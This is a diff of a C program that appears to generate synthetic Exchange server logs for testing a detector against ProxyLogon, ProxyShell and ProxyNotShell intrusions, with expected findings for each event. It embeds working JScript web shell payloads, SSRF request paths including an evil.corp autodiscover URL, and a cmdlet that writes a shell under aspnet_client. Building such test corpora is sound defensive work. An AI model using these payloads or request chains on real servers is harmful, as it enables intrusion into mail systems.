@@ -26,15 +26,35 @@
 
 const mk_scenario_info mk_scenarios[MK_SC_COUNT] = {
     [MK_SC_CLEAN] = {"clean", "2021-03-01", "2021-03-15", NULL, {15, 1, 2176, 2}, "benign traffic only"},
-    [MK_SC_SCANNED] = {"scanned-only", "2021-08-02", "2021-08-16", "2021-07-20", {15, 1, 2308, 8},
+    [MK_SC_SCANNED] = {"scanned-only",
+                       "2021-08-02",
+                       "2021-08-16",
+                       "2021-07-20",
+                       {15, 1, 2308, 8},
                        "ProxyLogon/ProxyShell probes after the patch"},
-    [MK_SC_PROXYLOGON] = {"proxylogon-oab-webshell", "2021-02-26", "2021-03-12", "2021-03-10", {15, 1, 2176, 2},
+    [MK_SC_PROXYLOGON] = {"proxylogon-oab-webshell",
+                          "2021-02-26",
+                          "2021-03-12",
+                          "2021-03-10",
+                          {15, 1, 2176, 2},
                           "ProxyLogon chain with an OAB export web shell"},
-    [MK_SC_PROXYSHELL] = {"proxyshell-pst-webshell", "2021-08-12", "2021-08-26", "2021-08-24", {15, 1, 2176, 2},
+    [MK_SC_PROXYSHELL] = {"proxyshell-pst-webshell",
+                          "2021-08-12",
+                          "2021-08-26",
+                          "2021-08-24",
+                          {15, 1, 2176, 2},
                           "ProxyShell with a PST (and a DER) web shell"},
-    [MK_SC_PROXYNOTSHELL] = {"proxynotshell", "2022-09-26", "2022-11-14", "2022-11-10", {15, 1, 2507, 13},
+    [MK_SC_PROXYNOTSHELL] = {"proxynotshell",
+                             "2022-09-26",
+                             "2022-11-14",
+                             "2022-11-10",
+                             {15, 1, 2507, 13},
                              "ProxyNotShell, then OWASSRF and owafonts.aspx"},
-    [MK_SC_COMPILED] = {"compiled-webshell-only", "2021-03-08", "2021-03-22", "2021-03-09", {15, 1, 2176, 2},
+    [MK_SC_COMPILED] = {"compiled-webshell-only",
+                        "2021-03-08",
+                        "2021-03-22",
+                        "2021-03-09",
+                        {15, 1, 2176, 2},
                         "only a compiled web shell in Temporary ASP.NET Files"},
 };
 
@@ -51,10 +71,9 @@ static const struct fix {
     int family; /* 0 ProxyLogon (Mar21SU), 1 ProxyShell (May21SU/Jul21SU), 2 ProxyNotShell (Nov22SU) */
     int minor, build, rev;
 } fixes[] = {
-    {0, 0, 1497, 12}, {0, 1, 2106, 13}, {0, 1, 2176, 9},   {0, 2, 721, 13},  {0, 2, 792, 10},
-    {1, 0, 1497, 18}, {1, 1, 2176, 14}, {1, 1, 2242, 10},  {1, 1, 2308, 14}, {1, 2, 792, 15},
-    {1, 2, 858, 12},  {1, 2, 922, 13},  {2, 0, 1497, 44},  {2, 1, 2375, 37}, {2, 1, 2507, 16},
-    {2, 2, 986, 36},  {2, 2, 1118, 20},
+    {0, 0, 1497, 12}, {0, 1, 2106, 13}, {0, 1, 2176, 9},  {0, 2, 721, 13}, {0, 2, 792, 10},  {1, 0, 1497, 18},
+    {1, 1, 2176, 14}, {1, 1, 2242, 10}, {1, 1, 2308, 14}, {1, 2, 792, 15}, {1, 2, 858, 12},  {1, 2, 922, 13},
+    {2, 0, 1497, 44}, {2, 1, 2375, 37}, {2, 1, 2507, 16}, {2, 2, 986, 36}, {2, 2, 1118, 20},
 };
 
 bool mk_fixed_build(mk_scenario_id sc, const mk_build *b, mk_build *fixed)
@@ -76,7 +95,7 @@ bool mk_fixed_build(mk_scenario_id sc, const mk_build *b, mk_build *fixed)
 EXPECT(E_26855_OK, "exploitation-success", "CVE-2021-26855", MK_SEV_HIGH, MK_SEV_NONE, true,
        "ProxyLogon SSRF (X-BEResource, ServerInfo~ anchor) answered with success before the fix");
 EXPECT(E_26855_IIS_OK, "exploitation-success", "CVE-2021-26855", MK_SEV_HIGH, MK_SEV_NONE, true,
-       "POST to a one-letter .js under /ecp answered 200/241 (ProxyLogon request, IIS front end)");
+       "ProxyLogon request on the IIS front end (POST to /ecp/<x>.js or /owa/auth/Current/...) answered 200/241");
 EXPECT(E_26855_TRY, "exploitation-attempt", "CVE-2021-26855", MK_SEV_INFO, MK_SEV_MEDIUM, true,
        "ProxyLogon SSRF attempt answered with an error (after the fix)");
 EXPECT(C_26855, "exploitation-attempt", "CVE-2021-26855", MK_SEV_INFO, MK_SEV_NONE, false,
@@ -134,7 +153,10 @@ typedef struct sctx {
     mk_rng rng;
 } sctx;
 
-static bool fixed_at(const sctx *s, int64_t t) { return t >= s->c->patched_ms; }
+static bool fixed_at(const sctx *s, int64_t t)
+{
+    return t >= s->c->patched_ms;
+}
 
 static mk_req *atk(sctx *s, int64_t t, int proto, unsigned flags, const char *method, const char *stem,
                    const char *query, const char *ua, const char *cip, int status)
@@ -289,12 +311,12 @@ static uint8_t *pst_shell(sctx *s, const char *payload, size_t *len)
     memcpy(b, "!BDN", 4);
     for (int i = 4; i < 8; i++)
         b[i] = (uint8_t)mk_rng_below(&s->rng, 256); /* dwCRCPartial */
-    memcpy(b + 8, "SM", 2);                          /* wMagicClient */
-    b[10] = 23;                                      /* wVer: Unicode PST */
-    b[12] = 19;                                      /* wVerClient */
-    b[14] = 1;                                       /* bPlatformCreate */
-    b[15] = 1;                                       /* bPlatformAccess */
-    b[0x201] = 0x80;                                 /* bCryptMethod: NDB_CRYPT_PERMUTE */
+    memcpy(b + 8, "SM", 2);                         /* wMagicClient */
+    b[10] = 23;                                     /* wVer: Unicode PST */
+    b[12] = 19;                                     /* wVerClient */
+    b[14] = 1;                                      /* bPlatformCreate */
+    b[15] = 1;                                      /* bPlatformAccess */
+    b[0x201] = 0x80;                                /* bCryptMethod: NDB_CRYPT_PERMUTE */
     for (size_t off = 0x4400; off < n; off += 512) {
         size_t end = off + 480;
         for (size_t i = off; i < end && i < n; i++)
@@ -348,7 +370,8 @@ static uint8_t *der_shell(sctx *s, const char *payload, size_t *len)
     n = der(a, 0x31, b, n);
     size_t subject = der(b, 0x30, a, n);
     /* SubjectPublicKeyInfo: rsaEncryption, BIT STRING of 270 bytes */
-    static const uint8_t rsa[] = {0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00};
+    static const uint8_t rsa[] = {0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86,
+                                  0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00};
     uint8_t key[271];
     key[0] = 0;
     for (size_t i = 1; i < sizeof key; i++)
@@ -363,7 +386,8 @@ static uint8_t *der_shell(sctx *s, const char *payload, size_t *len)
     cri += der(a + cri, 0x30, tmp, spki);
     a[cri++] = 0xa0, a[cri++] = 0x00;
     n = der(b, 0x30, a, cri);
-    static const uint8_t sha256rsa[] = {0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x0b, 0x05, 0x00};
+    static const uint8_t sha256rsa[] = {0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86,
+                                        0xf7, 0x0d, 0x01, 0x01, 0x0b, 0x05, 0x00};
     memcpy(b + n, sha256rsa, sizeof sha256rsa);
     n += sizeof sha256rsa;
     uint8_t sig[257];
@@ -389,7 +413,7 @@ static uint8_t *der_shell(sctx *s, const char *payload, size_t *len)
 static void plan_proxylogon(sctx *s)
 {
     const mk_cfg *c = s->c;
-    const char *ip = "130.255.189.21";      /* HELSECERT */
+    const char *ip = "130.255.189.21";        /* HELSECERT */
     const char *shell_ip = "139.162.202.236"; /* HELSECERT, web shell access */
     const char *ua_esc = "ExchangeServicesClient/0.0.0.0";
     const char *ua_py = "python-requests/2.25.1";
@@ -407,10 +431,12 @@ static void plan_proxylogon(sctx *s)
         {0, ua_esc, "/autodiscover/autodiscover.xml?#", "/autodiscover/autodiscover.xml", "", 200, &C_26855, true},
         {1537, ua_py, "/mapi/emsmdb/?#", "/mapi/emsmdb/", "", 200, &E_26855_OK, false},
         {4048, ua_py, "/ecp/proxyLogon.ecp?#", "/ecp/proxyLogon.ecp", "", 241, &E_26855_OK, false},
-        {9381, ua_py, mk_keepf("/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=%s&schema=OABVirtualDirectory#", can1),
+        {9381, ua_py,
+         mk_keepf("/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=%s&schema=OABVirtualDirectory#", can1),
          "/ecp/DDI/DDIService.svc/GetObject", mk_keepf("msExchEcpCanary=%s&schema=OABVirtualDirectory", can1), 200,
          &E_26855_OK, false},
-        {575880, ua_py, mk_keepf("/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=%s&schema=OABVirtualDirectory#", can2),
+        {575880, ua_py,
+         mk_keepf("/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=%s&schema=OABVirtualDirectory#", can2),
          "/ecp/DDI/DDIService.svc/SetObject", mk_keepf("msExchEcpCanary=%s&schema=OABVirtualDirectory", can2), 200,
          &E_26855_OK, false},
         {578197, ua_py,
@@ -418,12 +444,36 @@ static void plan_proxylogon(sctx *s)
          "/ecp/DDI/DDIService.svc/SetObject", mk_keepf("msExchEcpCanary=%s&schema=ResetOABVirtualDirectory", can2), 200,
          &E_27065_RESET, false},
     };
+    /* An earlier actor the night before (Volexity's pattern, ioc-hunting.md §1.3): the SSRF through
+     * POSTs to static resources under /owa/auth/Current/, with a crawler's user agent. */
+    static const char *const res[] = {"logon.css", "owafont_ja.css", "lgnbotl.gif"};
+    int64_t tv = mk_time_make(2021, 3, 2, 23, 14, 51, 377);
+    for (size_t i = 0; i < MK_LEN(res); i++) {
+        int64_t t = tv + (int64_t)i * 2311;
+        bool fixed = fixed_at(s, t);
+        mk_req *r =
+            atk(s, t, MK_P_OWA, MK_R_HP | MK_R_FE | (fixed ? 0 : MK_R_BE), "POST",
+                mk_keepf("/owa/auth/Current/themes/resources/%s", res[i]), "",
+                "DuckDuckBot/1.0; (+http://duckduckgo.com/duckduckbot.html)", "149.28.14.163", fixed ? 500 : 200);
+        r->anchor = mk_keepf("ServerInfo~a]@%s/mapi/emsmdb/?#", be);
+        r->routing_type = "Server";
+        r->routing_hint = "X-BEResource-Cookie";
+        r->be_stem = "/mapi/emsmdb/";
+        r->be_query = "";
+        r->be_user = "NT AUTHORITY\\SYSTEM";
+        r->expect[MK_T_HP] = fixed ? &E_26855_TRY : &E_26855_OK;
+        r->expect[MK_T_FE] = fixed ? &E_26855_TRY : &E_26855_IIS_OK;
+        r->expect[MK_T_BE] = &C_26855_OK;
+    }
+
     bool chain_ok = true;
     for (size_t i = 0; i < MK_LEN(steps) && chain_ok; i++) {
         int64_t t = t0 + steps[i].dt;
         bool fixed = fixed_at(s, t);
         int status = fixed ? 500 : steps[i].status;
-        mk_req *r = atk(s, t, MK_P_ECP, MK_R_HP | MK_R_FE | MK_R_BE, "POST", "/ecp/y.js", "", steps[i].ua, ip, status);
+        /* Once fixed, the front end no longer routes the cookie's target: no back end line. */
+        mk_req *r = atk(s, t, MK_P_ECP, MK_R_HP | MK_R_FE | (fixed ? 0 : MK_R_BE), "POST", "/ecp/y.js", "", steps[i].ua,
+                        ip, status);
         r->anchor = mk_keepf("ServerInfo~a]@%s%s", be, steps[i].target);
         r->routing_type = "Server";
         r->routing_hint = "X-BEResource-Cookie";
@@ -449,8 +499,8 @@ static void plan_proxylogon(sctx *s)
     /* ECP server log (HELSECERT ECPServer20210303-1.LOG). */
     const char *chopper = "http://f/<script language=\"JScript\" runat=\"server\">function "
                           "Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>";
-    const char *set_url = mk_keepf("/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=%s&schema=OABVirtualDirectory",
-                                   can1);
+    const char *set_url =
+        mk_keepf("/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=%s&schema=OABVirtualDirectory", can1);
     ecp_line(s, mk_time_make(2021, 3, 3, 6, 49, 53, 772),
              mk_keepf("Set-OabVirtualDirectory.ExternalUrl='%s'.Identity='%s'", chopper, vdir), set_url, "",
              &E_27065_ECP, NULL);
@@ -563,8 +613,8 @@ static const char *rps_cat(const mk_user *u)
     tok[n++] = (uint8_t)strlen(u->sid);
     memcpy(tok + n, u->sid, strlen(u->sid));
     n += strlen(u->sid);
-    static const uint8_t groups[] = {'G', 1, 0, 0, 0, 7, 0, 0, 0, 12, 'S', '-', '1', '-', '5', '-', '3', '2', '-',
-                                     '5', '4', '4', 'E', 0, 0, 0, 0};
+    static const uint8_t groups[] = {'G', 1,   0,   0,   0,   7,   0,   0,   0,   12, 'S', '-', '1', '-',
+                                     '5', '-', '3', '2', '-', '5', '4', '4', 'E', 0,  0,   0,   0};
     memcpy(tok + n, groups, sizeof groups);
     n += sizeof groups;
     char b64[800];
@@ -594,6 +644,7 @@ static void plan_proxyshell(sctx *s)
         int64_t dt;
         const char *method, *target, *be_stem, *be_query;
     } steps[] = {
+        {-41377, "GET", "mapi/nspi/?&", "/mapi/nspi/", ""}, /* the check before the chain (nuclei/Metasploit) */
         {0, "POST", "autodiscover/autodiscover.xml?&", "/autodiscover/autodiscover.xml", ""},
         {2130, "POST", "mapi/emsmdb/?&", "/mapi/emsmdb/", ""},
         {5044, "POST", "EWS/exchange.asmx?&", "/EWS/exchange.asmx", ""},
@@ -658,11 +709,12 @@ static void plan_proxyshell(sctx *s)
     /* The certificate-request variant (DER file starting 30 82). */
     char name3[9];
     random_name(s, name3, 9, "abcdefghijklmnopqrstuvwxyz0123456789");
-    cmdlet(s, t0 + 140370 + 600, "New-ExchangeCertificate",
-           mk_keepf("-Server \"%s\" -GenerateRequest \"True\" -SubjectName \"CN=<%%@ Page Language=\"Jscript\"%%>...\" "
-                    "-BinaryEncoded \"True\" -RequestFile \"\\\\localhost\\C$\\inetpub\\wwwroot\\aspnet_client\\%s.aspx\"",
-                    MK_SERVER, name3),
-           adm, false, &C_PROXYSHELL_EVT, NULL);
+    cmdlet(
+        s, t0 + 140370 + 600, "New-ExchangeCertificate",
+        mk_keepf("-Server \"%s\" -GenerateRequest \"True\" -SubjectName \"CN=<%%@ Page Language=\"Jscript\"%%>...\" "
+                 "-BinaryEncoded \"True\" -RequestFile \"\\\\localhost\\C$\\inetpub\\wwwroot\\aspnet_client\\%s.aspx\"",
+                 MK_SERVER, name3),
+        adm, false, &C_PROXYSHELL_EVT, NULL);
     char der_payload[256];
     snprintf(der_payload, sizeof der_payload,
              "<%%@ Page Language=\"Jscript\"%%><%%eval(Request.Item[\"%s\"],\"unsafe\");%%>", key);
@@ -749,7 +801,8 @@ static void plan_proxynotshell(sctx *s)
     char vpath[512];
     snprintf(vpath, sizeof vpath, "%s/FrontEnd/HttpProxy/owa/auth/owafonts.aspx", c->install_v);
     const char *key = mk_keepf("z%u", (unsigned)mk_rng_below(&s->rng, 900000) + 100000);
-    const char *shell = mk_keepf("<%%@ Page Language=\"Jscript\"%%><%%eval(Request.Item[\"%s\"],\"unsafe\");%%>\r\n", key);
+    const char *shell =
+        mk_keepf("<%%@ Page Language=\"Jscript\"%%><%%eval(Request.Item[\"%s\"],\"unsafe\");%%>\r\n", key);
     mk_plan_file(s->p, vpath, shell, strlen(shell), mk_time_make(2022, 11, 3, 21, 52, 40, 0), &E_SHELL, NULL);
     static const struct {
         int mo, d, h, mi, se;
@@ -757,8 +810,9 @@ static void plan_proxynotshell(sctx *s)
     } uses[] = {
         {11, 3, 21, 53, 2, "antSword/v2.1"},
         {11, 5, 2, 11, 45, "antSword/v2.1"},
-        {11, 8, 23, 40, 10, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
-                            "Chrome/106.0.0.0 Safari/537.36"},
+        {11, 8, 23, 40, 10,
+         "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+         "Chrome/106.0.0.0 Safari/537.36"},
     };
     for (size_t i = 0; i < MK_LEN(uses); i++) {
         mk_req *r = atk(s, mk_time_make(2022, uses[i].mo, uses[i].d, uses[i].h, uses[i].mi, uses[i].se, 0), MK_P_NONE,
@@ -827,21 +881,21 @@ static void plan_scanned(sctx *s)
             };
             for (int k = 0; k < 3; k++) {
                 bool nspi = k > 0;
-                mk_req *r = atk(s, t + k * 900, MK_P_AUTODISCOVER, MK_R_HP | MK_R_FE, "GET",
-                                "/autodiscover/autodiscover.json", q[k], k == 2 ? msf_ua : nuclei_ua, ip,
-                                fixed ? (nspi ? 401 : 400) : 302);
+                mk_req *r =
+                    atk(s, t + k * 900, MK_P_AUTODISCOVER, MK_R_HP | MK_R_FE, "GET", "/autodiscover/autodiscover.json",
+                        q[k], k == 2 ? msf_ua : nuclei_ua, ip, fixed ? (nspi ? 401 : 400) : 302);
                 r->expect[MK_T_FE] = fixed && nspi ? &E_34473_TRY : &C_34473;
                 r->expect[MK_T_HP] = &C_34473;
                 r->time_taken = 12 + k;
             }
             if (wave == 4) {
                 const char *cat = rps_cat(&mk_users[0]);
-                mk_req *r = atk(s, t + 4000, MK_P_AUTODISCOVER, MK_R_HP | MK_R_FE, "POST",
-                                "/autodiscover/autodiscover.json",
-                                mk_keepf("@evil.corp/powershell/?X-Rps-CAT=%s&Email=autodiscover/autodiscover.json%%3F@"
-                                         "evil.corp",
-                                         cat),
-                                "python-requests/2.26.0", ip, fixed ? 401 : 200);
+                mk_req *r =
+                    atk(s, t + 4000, MK_P_AUTODISCOVER, MK_R_HP | MK_R_FE, "POST", "/autodiscover/autodiscover.json",
+                        mk_keepf("@evil.corp/powershell/?X-Rps-CAT=%s&Email=autodiscover/autodiscover.json%%3F@"
+                                 "evil.corp",
+                                 cat),
+                        "python-requests/2.26.0", ip, fixed ? 401 : 200);
                 r->expect[MK_T_FE] = fixed ? &E_34473_TRY : &E_34473_OK;
                 r->expect[MK_T_HP] = &C_34473;
             }
@@ -855,8 +909,6 @@ static void plan_scanned(sctx *s)
 
 static void compiled_files(sctx *s, int64_t when, bool malicious)
 {
-    const mk_cfg *c = s->c;
-    (void)c;
     char asm8[9], d1[9], d2[9], page[9], hash[9];
     random_name(s, asm8, 9, "abcdefghijklmnopqrstuvwxyz0123456789");
     random_name(s, d1, 9, "0123456789abcdef");
@@ -869,13 +921,25 @@ static void compiled_files(sctx *s, int64_t when, bool malicious)
     const char *asm_name = mk_keepf("App_Web_%s", asm8);
     const char *dll = mk_keepf("%s.dll", asm_name);
     const char *tilde = malicious ? mk_keepf("~/aspnet_client/system_web/%s", file) : "~/auth/logoff.aspx";
-    const char *type = mk_keepf("ASP.%s_%s_aspx", malicious ? "aspnet_client_system_web" : "auth",
-                                malicious ? page : "logoff");
-    const char *ascii_mal[] = {asm_name, dll, "ASP", type, "Page_Load", "Microsoft.JScript", "JScriptEvaluate",
-                               "Microsoft.JScript.Vsa", "System.Web", "get_Request", "get_Item", "Eval",
-                               "FrameworkInitialize", "__BuildControlTree"};
-    const char *ascii_ok[] = {asm_name, dll, "ASP", type, "Microsoft.Exchange.HttpProxy", "Logoff", "System.Web",
-                              "get_Request", "get_Item", "get_Server", "FrameworkInitialize", "__BuildControlTree"};
+    const char *type =
+        mk_keepf("ASP.%s_%s_aspx", malicious ? "aspnet_client_system_web" : "auth", malicious ? page : "logoff");
+    const char *ascii_mal[] = {asm_name,
+                               dll,
+                               "ASP",
+                               type,
+                               "Page_Load",
+                               "Microsoft.JScript",
+                               "JScriptEvaluate",
+                               "Microsoft.JScript.Vsa",
+                               "System.Web",
+                               "get_Request",
+                               "get_Item",
+                               "Eval",
+                               "FrameworkInitialize",
+                               "__BuildControlTree"};
+    const char *ascii_ok[] = {
+        asm_name,     dll,           "ASP",      type,         "Microsoft.Exchange.HttpProxy", "Logoff",
+        "System.Web", "get_Request", "get_Item", "get_Server", "FrameworkInitialize",          "__BuildControlTree"};
     const char *wide[] = {tilde, malicious ? "unsafe" : "/owa/auth/logon.aspx"};
     size_t len;
     uint8_t *img = mk_pe_dll(malicious ? ascii_mal : ascii_ok, malicious ? MK_LEN(ascii_mal) : MK_LEN(ascii_ok), wide,
@@ -979,17 +1043,17 @@ void mk_lookalikes_plan(const mk_cfg *c, mk_plan *p)
     r->benign_note[MK_T_HP] = note_vdir;
     r->benign_note[MK_T_FE] = note_vdir;
     r->benign_note[MK_T_ECP] = note_vdir;
-    cmdlet(&s, t + 380, "Set-OwaVirtualDirectory",
-           mk_keepf("-Identity \"%s\\owa (Default Web Site)\" -ExternalUrl \"https://%s/owa\"", MK_SERVER,
-                    MK_PUBLIC_HOST),
-           adm, true, NULL, note_vdir);
+    cmdlet(
+        &s, t + 380, "Set-OwaVirtualDirectory",
+        mk_keepf("-Identity \"%s\\owa (Default Web Site)\" -ExternalUrl \"https://%s/owa\"", MK_SERVER, MK_PUBLIC_HOST),
+        adm, true, NULL, note_vdir);
 
     /* Remote PowerShell: Set-OabVirtualDirectory with a normal URL, a mailbox export to a file share. */
     t = at_fraction(c, 4, 10, 14, 3, 51);
-    cmdlet(&s, t, "Set-OabVirtualDirectory",
-           mk_keepf("-Identity \"%s\\OAB (Default Web Site)\" -ExternalUrl \"https://%s/OAB\"", MK_SERVER,
-                    MK_PUBLIC_HOST),
-           adm, false, NULL, "Set-OabVirtualDirectory with a plain https URL");
+    cmdlet(
+        &s, t, "Set-OabVirtualDirectory",
+        mk_keepf("-Identity \"%s\\OAB (Default Web Site)\" -ExternalUrl \"https://%s/OAB\"", MK_SERVER, MK_PUBLIC_HOST),
+        adm, false, NULL, "Set-OabVirtualDirectory with a plain https URL");
     t = at_fraction(c, 6, 10, 16, 40, 9);
     const mk_user *leaver = &mk_users[42];
     cmdlet(&s, t, "New-MailboxExportRequest",
